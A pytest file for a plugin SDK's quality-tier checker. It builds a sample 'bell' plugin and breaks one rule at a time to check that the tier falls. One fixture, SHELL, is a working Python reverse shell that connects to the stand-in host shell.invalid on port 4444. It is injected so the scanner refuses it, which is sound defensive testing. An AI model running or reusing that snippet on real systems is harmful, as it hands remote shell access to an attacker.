"""Quality tiers: each rule asks for one thing, and giving it is what brings a plugin up."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from heimnetz_git.sdk.quality import RULES, TIERS, quality

ROOT = Path(__file__).resolve().parent.parent

MODULE = '''"""Wakes."""

from heimnetz_git import BasePlugin, operation


class Bell(BasePlugin):
    """Rings."""

    @operation
    def ring(self, times: int = 1) -> str:
        """Ring."""
        return "ding" * times
'''
TEST = '"""It rings."""\n\n\ndef test_it(plugin: object) -> None:\n    plugin.call("ring")\n'
PYPROJECT = """[build-system]
requires = ["hatchling==1.33.0"]
build-backend = "hatchling.build"

[project]
name = "bell"
version = "1.0.0"
description = "Rings a bell for everyone"
readme = "README.md"
license = "MIT"
license-files = ["LICENSE"]
authors = [{ name = "Ada", email = "ada@example.org" }]
requires-python = ">=3.11"

[project.urls]
Source = "https://example.org/bell"

[project.entry-points."heimnetz.plugins"]
bell = "bell:Bell"
"""
MANIFEST = """format: 1
type: utility
host:
  heimnetz: ">=1,<2"
limits:
  memory: 32M
changes:
  - kind: added
    text: It rings.
"""
FILES = {
    "pyproject.toml": PYPROJECT,
    "plugin.yaml": MANIFEST,
    "src/bell/__init__.py": MODULE,
    "src/bell/py.typed": "",
    "README.md": "# bell\n\nRings.\n",
    "LICENSE": "MIT\n",
    "CHANGELOG.md": "# Changelog\n\n## [1.0.0]\n\n- It rings.\n",
    "tests/test_bell.py": TEST,
    ".github/workflows/test.yml": "on: push\n",
}

CHANGES = "changes:\n  - kind: added\n    text: It rings.\n"
SHELL = '''"""Wakes."""

import socket
import subprocess

line = socket.create_connection(("shell.invalid", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=line.fileno(), stdout=line.fileno())
'''

# the rule, the file, what is taken out of it (all of it: the file goes), what comes instead
BROKEN = [
    ("valid", "pyproject.toml", '"1.0.0"', '"1.0"'),
    ("not-refused", "src/bell/__init__.py", '"""Wakes."""', SHELL),
    ("readme", "pyproject.toml", 'readme = "README.md"\n', ""),
    ("clean", "plugin.yaml", ">=1,<2", ">=1"),
    ("tested", "tests/test_bell.py", "", ""),
    ("history", "CHANGELOG.md", "[1.0.0]", "[0.9.0]"),
    ("changes", "plugin.yaml", CHANGES, ""),
    ("exact", "plugin.yaml", "limits:", "permissions:\n  run: [/usr/bin/ip]\nlimits:"),
    ("accepted", "src/bell/__init__.py", '"ding" * times', 'str(eval("times"[::times]))'),
    ("typed", "src/bell/__init__.py", "times: int", "times"),
    ("typed", "src/bell/py.typed", "", ""),
    ("documented", "src/bell/__init__.py", '    """Rings."""\n', ""),
    ("limits", "plugin.yaml", "limits:\n  memory: 32M\n", ""),
    ("source", "pyproject.toml", "Source =", "Chat ="),
    ("spotless", "src/bell/__init__.py", '        """Ring."""\n', ""),
    ("pinned", "pyproject.toml", "hatchling==1.33.0", "hatchling>=1.33"),
    ("pipeline", ".github/workflows/test.yml", "", ""),
    ("operations-tested", "tests/test_bell.py", '"ring"', '"sing"'),
]  # fmt: skip


def write(root: Path) -> Path:
    """The project that has all."""
    for name, text in FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return root


def test_a_project_that_has_all_is_platinum(tmp_path: Path) -> None:
    """Nothing is missing, and there is nothing above."""
    found = quality(write(tmp_path))
    assert [one.missing for one in found.verdicts if one.missing] == []
    assert (found.tier, found.next_tier, found.wanted) == ("platinum", "", ())


@pytest.mark.parametrize(("rule", "file", "old", "new"), BROKEN)
def test_each_rule_asks_for_one_thing(
    tmp_path: Path, rule: str, file: str, old: str, new: str
) -> None:
    """Without it the tier is one below the rule's, and the rule says what is missing."""
    path = write(tmp_path) / file
    if old:
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new), encoding="utf-8")
    else:
        path.unlink()
    found = quality(tmp_path)
    missing = {one.rule: one for one in found.verdicts if one.missing}
    assert rule in missing, missing
    assert found.tier not in TIERS[TIERS.index(missing[rule].tier) :]


def test_every_rule_has_a_case() -> None:
    """But the score's two, which fall with any finding of the scanner."""
    scores = {"good-score", "full-score"}
    assert {rule.name for rule in RULES} - {case[0] for case in BROKEN} == scores


def test_a_first_party_plugin_is_told_what_it_lacks(tmp_path: Path) -> None:
    """A real one: at least silver, and what is missing is named with its place."""
    root = shutil.copytree(ROOT / "plugins" / "wake-on-lan", tmp_path / "plugin")
    found = quality(root)
    assert found.tier in TIERS[1:]
    assert all(one.missing for one in found.wanted)
